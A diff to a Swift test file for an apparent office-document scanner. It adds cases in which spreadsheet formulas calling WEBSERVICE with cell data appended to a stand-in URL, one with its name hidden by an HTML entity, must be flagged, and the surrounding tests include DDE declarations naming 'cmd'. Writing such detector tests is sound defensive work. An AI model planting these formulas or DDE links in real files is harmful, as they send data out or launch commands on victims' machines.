@@ -23,6 +23,15 @@ import Testing
       + "</office:document>"
   }
 
+  @Test(arguments: ["WEBSERVICE(\"http://x/\"&amp;A2)", "1+_xlfn.W&#69;BSERVICE(A1)"])
+  func aFormulaThatAsksAPageIsUnwanted(_ formula: String) {
+    let sheet =
+      "<?xml version='1.0'?><worksheet><sheetData><f>\(formula)</f></sheetData></worksheet>"
+    #expect(Self.part(sheet) == .unwantedActions)
+    #expect(
+      Self.part("<worksheet><f>WEBSERVICES(A1)</f></worksheet>").isEmpty)
+  }
+
   @Test(arguments: [
     "<text:dde-connection-decl office:dde-application='cmd'/>", "<office:dde-source/>",
     "<table:dde-link><a/></table:dde-link>",
